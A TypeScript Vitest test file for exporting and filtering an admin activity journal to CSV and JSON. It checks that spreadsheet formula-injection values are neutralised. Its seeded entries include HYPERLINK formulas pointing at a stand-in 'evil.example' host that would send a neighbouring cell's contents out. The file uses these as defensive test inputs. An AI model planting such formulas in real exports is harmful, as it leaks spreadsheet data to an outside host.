import 'fake-indexeddb/auto';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { Journal } from '../../journal/journal.ts';
import { matchesFilter, type JournalEntry, type NewJournalEntry, type ResultFilter } from '../../journal/types.ts';
import { CSV_COLUMNS, exportFileName, journalToCsv, journalToJson } from './journalExport.ts';

const filterJournal = (entries: JournalEntry[], text: string, result: ResultFilter) => entries.filter((e) => matchesFilter(e, { text, result }));

const entry = (overrides: Partial<NewJournalEntry> = {}): NewJournalEntry => ({
  at: Date.parse('2026-11-28T02:00:00.000Z'),
  actor: { id: 'u1', name: 'Avery Admin', email: 'admin@example.com', organization: { id: 'org-x', name: 'Example Org' } },
  action: 'revoke-user-tokens',
  summary: 'Revoked all tokens of Ari Agent',
  target: { id: 'u3', name: 'Ari Agent', email: 'agent@example.com' },
  result: 'success',
  correlationId: 'corr-1',
  ...overrides,
});

async function seeded(): Promise<JournalEntry[]> {
  const name = crypto.randomUUID();
  const journal = new Journal({ databaseName: name, channelName: name });
  await journal.record(entry());
  await journal.record(
    entry({
      summary: 'Revoked all tokens of Mei "The Boss" Smith, Jr.',
      target: { id: 'u9', name: 'Mei "The Boss" Smith, Jr.', email: 'mei.smith@example.com' },
      result: 'failure',
      error: 'The service is currently unavailable.\nTry later.',
      correlationId: 'corr-2',
      at: Date.parse('2026-11-28T02:00:01.000Z'),
    }),
  );
  await journal.record(entry({ action: 'sign-out', summary: '=HYPERLINK("http://evil")', target: undefined, correlationId: undefined, at: Date.parse('2026-11-28T02:00:02.000Z') }));
  // A name chosen to survive papaparse's own escaping: a formula with a line break in it.
  await journal.record(
    entry({
      summary: 'Revoked all tokens of a crafted name',
      target: { id: 'u66', name: '=HYPERLINK("http://evil.example/?x="&A2,\n"click")', email: '+1@example.com' },
      at: Date.parse('2026-11-28T02:00:03.000Z'),
    }),
  );
  const all = await journal.all('org-x');
  journal.close();
  return all;
}

describe('exporting and filtering the journal', () => {
  it('filters by words anywhere a person would look, and by result', async () => {
    const entries = await seeded();
    expect(filterJournal(entries, '', 'all')).toHaveLength(4);
    expect(filterJournal(entries, 'smith', 'all').map((e) => e.target?.id)).toEqual(['u9']);
    expect(filterJournal(entries, 'AGENT@example', 'all').map((e) => e.target?.id)).toEqual(['u3']);
    expect(filterJournal(entries, 'corr-2', 'all')).toHaveLength(1);
    expect(filterJournal(entries, 'revoked smith', 'all')).toHaveLength(1);
    expect(filterJournal(entries, '', 'failure').map((e) => e.correlationId)).toEqual(['corr-2']);
    expect(filterJournal(entries, 'ari', 'failure')).toEqual([]);
  });

  it('writes CSV that reads back to the same values, newest first, with formulas defused', async () => {
    const entries = await seeded();
    const csv = await journalToCsv(entries);
    // A BOM first, so spreadsheets read the names as UTF-8.
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
    const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(4);
    const [crafted, signOut, failed, revoked] = parsed.data;
    expect(crafted?.targetName).toBe(`'=HYPERLINK("http://evil.example/?x="&A2,\n"click")`);
    expect(crafted?.targetEmail).toBe(`'+1@example.com`);
    expect(signOut?.summary).toBe(`'=HYPERLINK("http://evil")`);
    expect(failed).toMatchObject({
      targetName: 'Mei "The Boss" Smith, Jr.',
      result: 'failure',
      error: 'The service is currently unavailable.\nTry later.',
      correlationId: 'corr-2',
      actorEmail: 'admin@example.com',
      organizationName: 'Example Org',
    });
    expect(revoked).toMatchObject({ action: 'revoke-user-tokens', targetId: 'u3', result: 'success', at: '2026-11-28T02:00:00.000Z' });
  });

  it('writes JSON with every stored field and says what it is', async () => {
    const entries = await seeded();
    const json = JSON.parse(journalToJson(entries, new Date('2026-11-28T03:00:00Z'))) as { description: string; exportedAt: string; entries: JournalEntry[] };
    expect(json.exportedAt).toBe('2026-11-28T03:00:00.000Z');
    expect(json.description).toMatch(/not the organisation's audit log/i);
    expect(json.entries).toEqual(entries);
    expect(JSON.stringify(json)).not.toMatch(/access_?token/i);
  });

  it('names the file after the organisation and the time', () => {
    expect(exportFileName('Example Org', new Date('2026-11-28T03:04:05Z'), 'csv')).toBe('token-admin-activity-example-org-2026-11-28T03-04-05.csv');
    expect(exportFileName(undefined, new Date('2026-11-28T03:04:05Z'), 'json')).toBe('token-admin-activity-organisation-2026-11-28T03-04-05.json');
  });
});
